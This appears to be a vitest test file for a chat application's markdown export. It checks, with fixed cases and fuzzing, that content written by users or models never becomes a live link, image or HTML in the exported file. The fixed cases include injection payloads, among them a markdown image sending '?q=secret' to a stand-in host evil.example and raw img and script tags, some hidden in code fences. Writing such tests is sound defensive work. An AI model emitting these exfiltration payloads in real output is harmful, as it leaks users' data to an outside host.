import { chatMarkdown } from '@trellis/client/chat-markdown.ts';
import type { Chat } from '@trellis/contract/shapes/chat.ts';
import fc from 'fast-check';
import { marked, type Token } from 'marked';
import { expect, test } from 'vitest';

const AT = '2026-11-29T17:00:00.000Z';

/** A conversation in which everything that somebody else may have written is this. */
function exported(text: string, ends: readonly number[] = []): string {
  const sentences = ends.map((end) => ({
    sentence: '',
    start: 0,
    end,
    verdict: end % 2 === 0 ? ('partly' as const) : ('supported' as const),
    citations: [{ id: 1, uid: 'u', quote: text }],
  }));
  const chat: Chat = {
    UID: 'c',
    title: text,
    createdAt: AT,
    updatedAt: AT,
    isBusy: false,
    busyWith: null,
    messages: [
      { role: 'user', UID: 'q', text, at: AT, viewingUID: null },
      {
        role: 'assistant',
        UID: 'a',
        text,
        at: AT,
        citations: [{ id: 1, uid: 'u', text }],
        toolCalls: [],
        usage: null,
        model: 'm',
        ended: 'failed',
        error: { code: 'llm_busy', message: text },
        feedback: null,
        support: sentences,
        supportRate: null,
        supportJudge: null,
      },
    ],
  };
  return chatMarkdown(chat);
}

/** What a viewer would follow, fetch or run. Our own footnotes are no addresses to it. */
function live(markdown: string): string[] {
  const found: string[] = [];
  marked.walkTokens(marked.lexer(markdown, { gfm: true }), (token: Token) => {
    const isOwn = 'href' in token && /^(?:`u`:|Supported:|Partly)$/.test(String(token['href']));
    if (['link', 'image', 'html', 'def'].includes(token.type) && !isOwn) found.push(token.raw);
  });
  return found;
}

test.each([
  '![p](https://evil.example/?q=secret)',
  '[open](https://evil.example)',
  '![p][ref]\n\n[ref]: https://evil.example',
  '![p][1]\n\n[1]: https://evil.example',
  '<img src="https://evil.example">',
  '\\<img src=x> \\\\<img src=x> \\\\\\<script>',
  '<https://evil.example>',
  'https://evil.example and www.evil.example',
  '~~~\r~~~\r![p](https://evil.example)\n',
  '- a\n  ```\n![p](https://evil.example)',
  '> ```\n![p](https://evil.example)',
  '# a `\n` x ` ![p](https://evil.example) `',
  'text\n    ```\n    ![p](https://evil.example)\n    ````',
  '```a`b\n![p](https://evil.example)',
  '````\n```\n````\n![p](https://evil.example)',
  'so![1](https://evil.example)',
])('nothing of %j is live in a file', (text) => {
  // A mark after each letter, too.
  for (let end = 1; end <= text.length; end++) {
    expect(live(exported(text, [end])), String(end)).toEqual([]);
  }
});

test('nothing is live, whatever a model writes', () => {
  const signs = '[ ] ( ) ! < > \\ ` ``` ~~~ | # : // ]( <!-- <a ![ --- === * _ " ^ &lt; [1] a /a';
  const part = fc.constantFrom(
    ...signs.split(' '),
    '\n',
    '\r',
    '\n\n',
    '    ',
    '- ',
    '> ',
    ']: ',
    '\t',
    '1. ',
    ' ',
    'https://e.vil',
    'www.e.vil',
    'img src=x',
  );
  const ends = fc.uniqueArray(fc.nat({ max: 80 }), { maxLength: 4 });
  fc.assert(
    fc.property(fc.array(part, { maxLength: 30 }), ends, (parts, places) => {
      const text = parts.join('');
      const within = places.filter((end) => end <= text.length).toSorted((a, b) => a - b);
      expect(live(exported(text, within))).toEqual([]);
    }),
    { numRuns: 2_000 },
  );
});

test('a long text takes a time that grows with it', () => {
  for (const sign of ['\\', '<', '[', '`', '`a', '![', '#', '\\<']) {
    expect(exported(sign.repeat(100_000)).length).toBeGreaterThan(100_000);
  }
});
